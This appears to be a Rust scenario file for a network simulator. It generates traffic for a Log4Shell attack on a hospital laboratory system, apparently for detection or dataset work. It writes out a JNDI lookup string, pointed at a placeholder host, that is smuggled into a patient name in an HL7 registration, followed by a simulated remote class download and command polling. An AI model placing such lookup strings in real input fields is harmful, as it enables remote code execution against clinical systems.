//! Names of patients that are more than names.

use std::net::Ipv4Addr;

use super::Cast;
use crate::attacks::Family::Access;
use crate::attacks::Scenario;
use crate::clock::{MINUTE, Time, ms, secs};
use crate::dice::Dice;
use crate::network::{HostId, LINUX, OUTSIDE};
use crate::sim::Sim;
use crate::tcp::{Connection, Side};
use crate::ward::records;
use crate::wire::{http, ldap, noise};

/// All of them.
pub const ALL: &[Scenario] = &[Scenario {
    name: "hl7-name-runs",
    title: "A patient's name that somebody typed at a terminal has the laboratory's system fetch a program from outside",
    family: Access,
    techniques: &[
        "T0819",
        "T0866",
        "T0807",
        "T0869",
        "T0885",
        "T0867",
        "T0886",
        "T1190",
        "T1210",
        "T1203",
        "T1059",
        "T1105",
        "T1071",
        "T1071.001",
        "T1095",
        "T1571",
    ],
    endangers: "Somebody outside has the laboratory's system in his hands, and all results with it.",
    hour: 12.8,
    start: name_runs,
    ..super::BASE
}];

/// Where the directory and the program lie.
const HOME: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 61);
/// The ports of both.
const PORTS: [u16; 2] = [1389, 8888];

/// As Log4Shell has it (CVE-2021-44228): whoever logs the name looks it up, and runs what the directory names. Systems
/// behind interfaces were found to be open to it that no browser reaches; the name comes as every other, in a registration
/// of the clinics, and of all that hear of it the laboratory's system alone is of the kind.
fn name_runs(sim: &mut Sim) -> Cast {
    let oui = [0x00, 0x1b, 0x54];
    let outside = sim.net.add_host_at("x7.dyn-names.example".into(), "stranger", OUTSIDE, oui, LINUX, HOME);
    let lis = sim.ward.site().lis;
    let mut dice = sim.dice("name runs", sim.now.0);
    // The first try does not get through: the host cannot be reached by that port.
    let mut at = sim.now;
    for (round, port) in [(0, 389), (1, PORTS[0]), (2, PORTS[0])] {
        let mut own = dice.fork();
        sim.at(at, move |sim| {
            register(sim, &format!("${{jndi:ldap://{HOME}:{port}/a}}"), &mut own);
            let heard = sim.now + secs(2);
            sim.at(heard, move |sim| {
                if round == 0 {
                    Connection::unanswered(&mut sim.net, sim.now, lis, outside, port);
                } else if sim.net.host(lis).up {
                    fetch(sim, [lis, outside], &mut own);
                }
            });
        });
        at += dice.around(6 * MINUTE, 0.2);
    }
    let end = at + 20 * MINUTE;
    sim.at(at, move |sim| obey(sim, [lis, outside], end, dice));
    Cast { victims: vec![lis, sim.ward.site().engine], attackers: vec![outside], end: end + MINUTE }
}

/// Somebody registers at the terminal under such a name.
fn register(sim: &mut Sim, name: &str, dice: &mut Dice) {
    let Some(mut patient) = records::somebody(sim, dice) else { return };
    (patient.name, patient.inpatient) = (format!("{name}^CANARY"), false);
    // Its numbers are not the record's own: these go on as ever.
    let record = sim.ward.records.ehr.clone();
    let mut message = records::message(sim, &patient, "ADT^A04^ADT_A01", "");
    sim.ward.records.ehr = record;
    message.control_id = format!("E{}", 97_100_000 + dice.range(0..1_000));
    records::send(sim, message);
}

/// The directory is asked, and what it names is fetched.
fn fetch(sim: &mut Sim, [lis, outside]: [HostId; 2], dice: &mut Dice) {
    let (net, [directory, store]) = (&mut sim.net, PORTS);
    let (mut open, ready) = Connection::open(net, sim.now, lis, outside, directory);
    let says: [(Side, Vec<u8>); 5] = [
        (Side::Opener, ldap::bind()),
        (Side::Answerer, ldap::bound()),
        (Side::Opener, ldap::search("a")),
        (Side::Answerer, ldap::reference("a", "Exploit", &format!("http://{HOME}:{store}/"))),
        (Side::Opener, ldap::unbind()),
    ];
    let at = says.iter().fold(ready, |at, (side, bytes)| open.send(net, at + ms(2), *side, bytes).arrived);
    open.close(net, at, Side::Opener);
    let (mut open, ready) = Connection::open(net, at + ms(30), lis, outside, store);
    let asked = format!(
        "GET /Exploit.class HTTP/1.1\r\nUser-Agent: Java/1.8.0_181\r\nHost: {HOME}:{store}\r\nAccept: */*\r\n\
         Connection: keep-alive\r\n\r\n"
    );
    let heard = open.send(net, ready, Side::Opener, asked.as_bytes()).arrived;
    let class = [&[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52][..], noise::piece(dice, 2_600)].concat();
    let told = open.send(net, heard + ms(3), Side::Answerer, &http::ok("application/java-vm", &class)).arrived;
    open.close(net, told + ms(20), Side::Opener);
}

/// What runs then asks for work, and is given some.
fn obey(sim: &mut Sim, [lis, outside]: [HostId; 2], end: Time, mut dice: Dice) {
    sim.repeat(sim.now, move |sim| {
        if sim.net.host(lis).up {
            let net = &mut sim.net;
            let (mut open, ready) = Connection::open(net, sim.now, lis, outside, PORTS[1]);
            let asked =
                format!("GET /t?id={:08x} HTTP/1.1\r\nHost: x7\r\nConnection: close\r\n\r\n", dice.bits() as u32);
            let heard = open.send(net, ready, Side::Opener, asked.as_bytes()).arrived;
            let length = dice.log_normal(600.0, 1.0).clamp(40.0, 60_000.0) as usize;
            let work = http::ok("application/octet-stream", noise::piece(&mut dice, length));
            let told = open.send(net, heard + ms(4), Side::Answerer, &work).arrived;
            open.close(net, told, Side::Answerer);
        }
        Some(sim.now + dice.around(secs(75), 0.3)).filter(|next| *next < end)
    });
}
